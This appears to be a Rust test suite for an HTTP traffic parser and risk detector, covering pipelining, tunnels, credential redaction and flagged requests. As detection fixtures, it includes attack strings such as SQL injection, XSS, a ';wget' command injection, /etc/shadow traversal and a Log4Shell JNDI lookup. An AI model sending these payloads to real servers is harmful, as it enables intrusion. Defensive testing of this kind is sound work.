use super::*;
use crate::testing::{Flow, Seen};
use crate::{Confidence, FieldRef, Wanted, common};

const REQUEST: &[u8] =
    b"GET /index.html?a=b HTTP/1.1\r\nHost: www.Example.com:8080\r\nUser-Agent: Mozilla/5.0 (X11)\r\n\
    Referer: http://example.net/\r\nOrigin: http://example.net\r\nX-Forwarded-For: 192.0.2.3\r\n\r\n";
const RESPONSE: &[u8] =
    b"HTTP/1.1 200 OK\r\nServer: Apache/2.4.57\r\nContent-Type: text/html; charset=utf-8\r\n\
    Content-Length: 15\r\n\r\n<html>hi</html>";

fn show(seen: &Seen, pairs: &[(FieldRef, &str)]) {
    for (field, value) in pairs {
        assert_eq!(seen.show(*field), *value, "{}", field.field().name);
    }
}

fn event(seen: &Seen, n: usize, field: FieldRef) -> String {
    seen.events[n].fields.iter().find(|(f, _)| *f == field).map(|(_, v)| v.to_string()).unwrap_or_default()
}

fn of_kind(seen: &Seen, kind: &str) -> usize {
    seen.events.iter().filter(|e| e.kind == kind).count()
}

/// A request for `target` and its headers.
fn get(target: &str, headers: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: a.example\r\n{headers}\r\n").into_bytes()
}

#[test]
fn a_request_and_its_response() {
    let seen = Flow::tcp(8080).client(REQUEST).server(RESPONSE).run_split();
    assert_eq!((seen.protocol, seen.confidence), (ProtocolId::Http, Confidence::Handshake));
    show(
        &seen,
        &[
            (common::HOSTNAME, "www.example.com"),
            (common::USER_AGENT, "Mozilla/5.0 (X11)"),
            (METHOD, "GET"),
            (HOST, "www.Example.com:8080"),
            (URI, "/index.html?a=b"),
            (VERSION, "1.1"),
            (STATUS, "200"),
            (REASON, "OK"),
            (USER_AGENT, "Mozilla/5.0 (X11)"),
            (REFERRER, "http://example.net/"),
            (ORIGIN, "http://example.net"),
            (CONTENT_TYPE, "text/html; charset=utf-8"),
            (CONTENT_LENGTH, "15"),
            (SERVER, "Apache/2.4.57"),
            (RESPONSE_BODY_LEN, "15"),
            (REQUEST_BODY_LEN, "0"),
            (MIME_TYPE, "text/html"),
            (X_FORWARDED_FOR, "192.0.2.3"),
            (PROXIED, "X-FORWARDED-FOR -> 192.0.2.3"),
        ],
    );
    assert!(seen.risks().is_empty(), "{:?}", seen.found.risks);
    assert_eq!((of_kind(&seen, "files"), of_kind(&seen, "http")), (1, 1));
    for (field, value) in [
        (DEPTH, "1"),
        (METHOD, "GET"),
        (HOST, "www.Example.com:8080"),
        (URI, "/index.html?a=b"),
        (REFERRER, "http://example.net/"),
        (VERSION, "1.1"),
        (USER_AGENT, "Mozilla/5.0 (X11)"),
        (ORIGIN, "http://example.net"),
        (REQUEST_BODY_LEN, "0"),
        (RESPONSE_BODY_LEN, "15"),
        (STATUS, "200"),
        (REASON, "OK"),
        (PROXIED, "X-FORWARDED-FOR -> 192.0.2.3"),
        (MIME_TYPE, "text/html"),
    ] {
        assert_eq!(event(&seen, 1, field), value, "{}", field.field().name);
    }
    for (field, value) in [
        (FILE_FROM_CLIENT, "false"),
        (FILE_MIME_TYPE, "text/html"),
        (FILE_SEEN_BYTES, "15"),
        (FILE_TOTAL_BYTES, "15"),
        (FILE_MISSING_BYTES, "0"),
        (FILE_SHA1, "1fbaab1b24e3c9ad80f1bb8d7b5e1b1c7b5e4a5c"),
    ] {
        if field == FILE_SHA1 {
            assert_eq!(event(&seen, 0, field).len(), 40);
        } else {
            assert_eq!(event(&seen, 0, field), value, "{}", field.field().name);
        }
    }
}

#[test]
fn pipelined_chunked_and_bodiless() {
    let client = b"HEAD /a HTTP/1.1\r\nHost: h\r\n\r\nGET /b HTTP/1.1\r\nHost: h\r\n\r\nPOST /c HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\n\r\nabc\
        GET /d HTTP/1.1\r\nHost: h\r\n\r\nGET /e HTTP/1.1\r\nHost: h\r\n\r\n";
    let server = b"HTTP/1.1 200 OK\r\nContent-Length: 999\r\n\r\n\
        HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5;x=y\r\nhello\r\n6\r\n world\r\n0\r\nTrailer: t\r\n\r\n\
        HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n\
        HTTP/1.1 304 Not Modified\r\nContent-Length: 5\r\n\r\nHTTP/1.0 404 Not Found\r\n\r\nuntil the end";
    let seen = Flow::tcp(80).client(client).server(server).run_split();
    let http: Vec<_> = (0..seen.events.len()).filter(|n| seen.events[*n].kind == "http").collect();
    let told: Vec<_> = http
        .iter()
        .map(|n| {
            [METHOD, URI, STATUS, REQUEST_BODY_LEN, RESPONSE_BODY_LEN, INFO_CODE]
                .map(|f| event(&seen, *n, f))
                .join(" ")
        })
        .collect();
    assert_eq!(
        told,
        [
            "HEAD /a 200 0 0 ",
            "GET /b 200 0 11 ",
            "POST /c 204 3 0 100",
            "GET /d 304 0 0 ",
            "GET /e 404 0 13 "
        ]
    );
    show(
        &seen,
        &[
            (METHODS, "HEAD,GET,POST"),
            (URLS, "/a,/b,/c,/d,/e"),
            (STATUSES, "200,204,304,404"),
            (INFO_CODE, "100"),
        ],
    );
    assert_eq!(seen.risks(), ["error-code"]);
}

#[test]
fn lines_that_end_in_lf_and_odd_blanks() {
    let seen = Flow::tcp(80)
        .client(b"GET   /x   HTTP/1.0\nhost:h.example\nUSER-AGENT:\ta\n\n")
        .server(b"HTTP/1.0  200\n\nx")
        .run_split();
    show(
        &seen,
        &[(common::HOSTNAME, "h.example"), (USER_AGENT, "a"), (URI, "/x"), (VERSION, "1.0"), (STATUS, "200")],
    );
}

#[test]
fn responses_alone() {
    let seen = Flow::tcp(80).server(RESPONSE).run_split();
    assert_eq!((seen.protocol, seen.confidence), (ProtocolId::Http, Confidence::Payload));
    show(&seen, &[(STATUS, "200"), (MIME_TYPE, "text/html")]);
    assert_eq!(of_kind(&seen, "http"), 1);
    let probe = Probe { ..crate::testing::probe(crate::Transport::Tcp, RESPONSE) };
    assert_eq!(identify(&probe), Verdict::YesReversed);
}

#[test]
fn connect_gives_way_to_what_the_tunnel_carries() {
    let connect = b"CONNECT mail.example:25 HTTP/1.1\r\nHost: mail.example:25\r\n\r\n";
    let inner = b"GET /inner HTTP/1.1\r\nHost: inner.example\r\n\r\n";
    let seen = Flow::tcp(3128)
        .client(connect)
        .server(b"HTTP/1.0 200 Connection established\r\n\r\n")
        .client(inner)
        .server(RESPONSE)
        .run_split();
    assert_eq!((seen.protocol, seen.confidence), (ProtocolId::HttpConnect, Confidence::Handshake));
    show(&seen, &[(common::HOSTNAME, "mail.example"), (METHOD, "CONNECT"), (URLS, "mail.example:25,/inner")]);
    // Bytes that the client sends before the answer wait for it; after a refusal they are the next request.
    let eager = [&connect[..], inner].concat();
    let seen = Flow::tcp(3128)
        .client(&eager)
        .server(b"HTTP/1.1 407 No\r\nContent-Length: 0\r\n\r\n")
        .client(inner)
        .run();
    show(&seen, &[(STATUSES, "407"), (URLS, "mail.example:25,/inner")]);
}

#[test]
fn absolute_targets_are_for_proxies() {
    let seen = Flow::tcp(8080)
        .client(b"GET http://user:geheim@a.example:81/x?password=geheim HTTP/1.1\r\nHost: b.example\r\n\r\n")
        .run_split();
    assert_eq!(seen.protocol, ProtocolId::HttpProxy);
    show(&seen, &[(common::HOSTNAME, "a.example"), (URI, "http://user:*@a.example:81/x?password=*")]);
    assert_eq!(seen.risks(), ["clear-text-credentials"]);
    assert!(!format!("{seen:?}").contains("geheim"), "a secret was kept");
}

/// What servers overlook hides nothing.
#[test]
fn empty_lines_and_folds_are_seen_through() {
    for request in [
        "\r\n\r\nGET / HTTP/1.1\r\nHost: a.example\r\n\r\n",
        "\nGET / HTTP/1.1\nHost: a.example\n\n",
        "GET / HTTP/1.1\r\nHost:\r\n  a.example\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a\r\n\t.example\r\nX: y\r\n z\r\n\r\n",
    ] {
        let seen = Flow::tcp(80).client(request.as_bytes()).run_split();
        assert_eq!(seen.protocol, ProtocolId::Http, "{request:?}");
        assert!(format!("{seen:?}").contains("\"a"), "{request:?}: {seen:?}");
    }
}

#[test]
fn h2c_upgrades() {
    let request = get(
        "/",
        "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
    );
    let seen = Flow::tcp(80)
        .client(&request)
        .server(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n")
        .run();
    assert_eq!(seen.protocol, ProtocolId::Http2);
    show(&seen, &[(UPGRADE, "h2c"), (common::HOSTNAME, "a.example")]);
}

#[test]
fn credentials_are_named_and_never_kept() {
    // RFC 7617 §2: Aladdin, open sesame
    let basic = get("/", "Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==\r\n");
    let seen = Flow::tcp(80).client(&basic).run_split();
    show(&seen, &[(USERNAME, "Aladdin")]);
    assert_eq!(seen.risks(), ["clear-text-credentials"]);
    assert!(!format!("{seen:?}").contains("sesame"));
    let form = b"POST /login HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 27\r\n\r\nuser=a&user[password]=topfk";
    let seen = Flow::tcp(80).client(form).run_split();
    assert_eq!(seen.risks(), ["clear-text-credentials"]);
    assert!(!format!("{seen:?}").contains("topfk"));
    let digest = get("/", "Authorization: Digest username=\"Mufasa\", realm=\"x\"\r\n");
    let seen = Flow::tcp(80).client(&digest).run();
    show(&seen, &[(USERNAME, "Mufasa")]);
    assert!(seen.risks().is_empty());
}

/// A response whose body is a Windows program.
fn program(content_type: &str) -> Vec<u8> {
    let mut body = vec![0; 300];
    body[..2].copy_from_slice(b"MZ");
    body[60] = 0x80;
    body[0x80..0x84].copy_from_slice(b"PE\0\0");
    [format!("HTTP/1.1 200 OK\r\nContent-Type: {content_type}\r\nContent-Disposition: attachment; filename=\"a.png\"\r\nContent-Length: 300\r\n\r\n").into_bytes(), body].concat()
}

#[test]
fn programs_over_http() {
    let request = get("/x", "");
    let seen = Flow::tcp(80).client(&request).server(&program("application/octet-stream")).run_split();
    assert_eq!(seen.risks(), ["binary-transfer"]);
    show(&seen, &[(MIME_TYPE, "application/x-dosexec"), (FILENAME, "a.png")]);
    let seen = Flow::tcp(80).client(&request).server(&program("image/png")).run_split();
    assert_eq!(seen.risks(), ["binary-transfer", "disguised-executable"]);
    assert_eq!(event(&seen, 0, FILE_NAME), "a.png");
    // Also when nobody wants events or fields.
    let seen = Flow::tcp(80).client(&request).server(&program("image/png")).run_wanting(&Wanted::none());
    assert_eq!(seen.risks(), ["binary-transfer", "disguised-executable"]);
}

#[test]
fn risks_of_requests() {
    let of = |request: &[u8]| Flow::tcp(80).client(request).run().risks();
    assert_eq!(of(b"GET / HTTP/1.1\r\nHost: 192.0.2.1:80\r\n\r\n"), ["numeric-ip-host"]);
    assert_eq!(of(b"GET / HTTP/1.1\r\nHost: [2001:db8::1]\r\n\r\n"), ["numeric-ip-host"]);
    assert_eq!(of(b"GET / HTTP/1.1\r\nHost: a b\x01\r\n\r\n"), ["invalid-characters"]);
    assert_eq!(of(b"GET / HTTP/1.1\r\nHost: xn--80ak6aa92e.com\r\n\r\n"), ["idn-name", "idn-homograph"]);
    assert_eq!(of(&get("/?id=1%20union%20select%201", "")), ["url-sql-injection"]);
    assert_eq!(of(&get("/?q=%3Cscript%3E", "")), ["url-xss"]);
    assert_eq!(of(&get("/?x=;wget%20http://a", "")), ["url-command-injection"]);
    assert_eq!(of(&get("/../../etc/shadow", "")), ["url-path-traversal"]);
    assert_eq!(of(&get("/.env", "")), ["suspicious-url"]);
    assert_eq!(of(&get("/", "User-Agent: sqlmap/1.7\r\n")), ["suspicious-user-agent"]);
    assert_eq!(of(&get("/", "User-Agent: curl/8.1\r\n")), ["scripted-client"]);
    assert_eq!(of(&get("/", "User-Agent: Googlebot/2.1\r\n")), ["crawler"]);
    assert_eq!(of(&get("/", "X-Api: ${jndi:ldap://x/a}\r\n")), ["exploit-attempt"]);
    for odd in [
        "Content-Length: 1\r\nContent-Length: 2\r\n",
        "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
        "X : y\r\n",
        "Host: b.example\r\n",
        "nonsense\r\n",
    ] {
        assert_eq!(of(&get("/", odd)), ["suspicious-header"], "{odd}");
    }
    assert!(of(&get("/a/b.css?v=1", "Accept: */*\r\nCookie: a=b; c=${d}\r\n")).is_empty());
}

#[test]
fn obsolete_servers_and_errors() {
    let seen =
        Flow::tcp(80).server(b"HTTP/1.1 500 Oops\r\nServer: Apache/2.2.3\r\nContent-Length: 0\r\n\r\n").run();
    assert_eq!(seen.risks(), ["error-code", "obsolete-server"]);
}

#[test]
fn without_events_it_stops_early() {
    let one = [get("/1", ""), get("/2", ""), get("/3", ""), get("/4", "")].concat();
    let answer = b"HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n".to_vec();
    let answers = [answer.clone(), vec![b'x'; 5000]].concat().repeat(4);
    let mut wanted = Wanted::none();
    wanted.add(STATUSES);
    wanted.add(URLS);
    wanted.add(common::HOSTNAME);
    let seen = Flow::tcp(80).client(&one).server(&answers).run_wanting(&wanted);
    show(&seen, &[(STATUSES, "200"), (URLS, "/1,/2,/3,/4"), (common::HOSTNAME, "a.example")]);
    assert!(seen.events.is_empty());
}

#[test]
fn gaps_within_bodies_and_between() {
    use crate::dispatch::Dispatcher;
    use crate::driver::{Driver, Progress};
    let dispatcher = Dispatcher::new(ProtocolId::all());
    let (mut found, mut events, mut facts) = (crate::Findings::default(), Vec::new(), Vec::new());
    let wanted = Wanted::all();
    let address = std::net::IpAddr::from([192, 0, 2, 1]);
    let mut sink =
        crate::Sink::new(&mut found, &wanted, &mut events, &mut facts, 0, [address; 2], [40000, 80]);
    let mut driver = Driver::new(ProtocolId::Http).unwrap();
    let mut feed =
        |dir, bytes: &[u8]| assert_eq!(driver.stream(&dispatcher, dir, bytes, &mut sink), Progress::More);
    feed(Dir::Client, &[get("/1", ""), get("/2", ""), get("/3", "")].concat());
    feed(Dir::Server, b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n012");
    assert_eq!(driver.gap(Dir::Server, 5, &mut sink), Progress::More);
    assert_eq!(
        driver.stream(&dispatcher, Dir::Server, b"89HTTP/1.1 404 No\r\nX: y", &mut sink),
        Progress::More
    );
    assert_eq!(driver.gap(Dir::Server, 50, &mut sink), Progress::More);
    assert_eq!(
        driver.stream(&dispatcher, Dir::Server, b"in the midst\r\nof something", &mut sink),
        Progress::More
    );
    assert_eq!(
        driver.stream(
            &dispatcher,
            Dir::Server,
            b"HTTP/1.1 301 Moved\r\nContent-Length: 0\r\n\r\n",
            &mut sink
        ),
        Progress::More
    );
    driver.finish(&mut sink);
    let missing = events[0].fields.iter().find(|(f, _)| *f == FILE_MISSING_BYTES).unwrap();
    assert_eq!(missing.1, crate::Value::Uint(5));
    let statuses = found.value(STATUSES).unwrap().to_string();
    assert_eq!(statuses, "200,404,301");
}

#[test]
fn what_only_looks_alike() {
    for other in [
        &b"OPTIONS rtsp://h/ RTSP/1.0\r\nCSeq: 1\r\n\r\n"[..],
        b"OPTIONS sip:h SIP/2.0\r\n\r\n",
        b"GET / HTTP/2.0\r\n\r\n",
        b"SOURCE /live ICE/1.0\r\n\r\n",
        b"GET /x\r\n",
        b"ICY 200 OK\r\n\r\n",
        b"HTTP/1.1 abc\r\n\r\n",
        b"RTSP/1.0 200 OK\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"NOTIFY * GENA/1.0\r\n\r\n",
        b"GET \x00\x01\x02\x03\x04\x05\x06\x07",
        b"POST the letter on Monday, please, and then we will see\r\n",
    ] {
        assert_ne!(
            Flow::tcp(80).client(other).run().protocol,
            ProtocolId::Http,
            "{}",
            String::from_utf8_lossy(other)
        );
    }
    let udp = b"HTTP/1.1 200 OK\r\nST: ssdp:all\r\n\r\n";
    assert_ne!(Flow::udp(1900).server(udp).run().protocol, ProtocolId::Http);
}

#[test]
fn every_method_has_a_pattern() {
    for method in message::METHODS {
        let request = format!("{method} /x HTTP/1.1\r\nHost: a\r\n\r\n");
        let seen = Flow::tcp(80).client(request.as_bytes()).run_split();
        assert!(matches!(seen.protocol, ProtocolId::Http | ProtocolId::HttpConnect), "{method}");
    }
}

#[test]
fn bounds() {
    let long = [b"GET / HTTP/1.1\r\nHost: a.example\r\nX: ".to_vec(), vec![b'x'; 40_000]].concat();
    assert_eq!(Flow::tcp(80).client(&long).run().risks(), ["malformed-packet"]);
    let many = [b"GET / HTTP/1.1\r\nHost: a.example\r\n".to_vec(), b"A: b\r\n".repeat(20_000)].concat();
    assert_eq!(Flow::tcp(80).client(&many).run().risks(), ["malformed-packet"]);
}

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config::with_cases(48))]
    #[test]
    fn nothing_panics(bytes in proptest::collection::vec(proptest::num::u8::ANY, 0..300), at in 0usize..200) {
        let mut response = RESPONSE.to_vec();
        let at = at.min(response.len());
        response.splice(at..at, bytes.iter().copied());
        let _ = Flow::tcp(80).client(REQUEST).server(&response).server(&bytes).client(&bytes).run();
    }
}
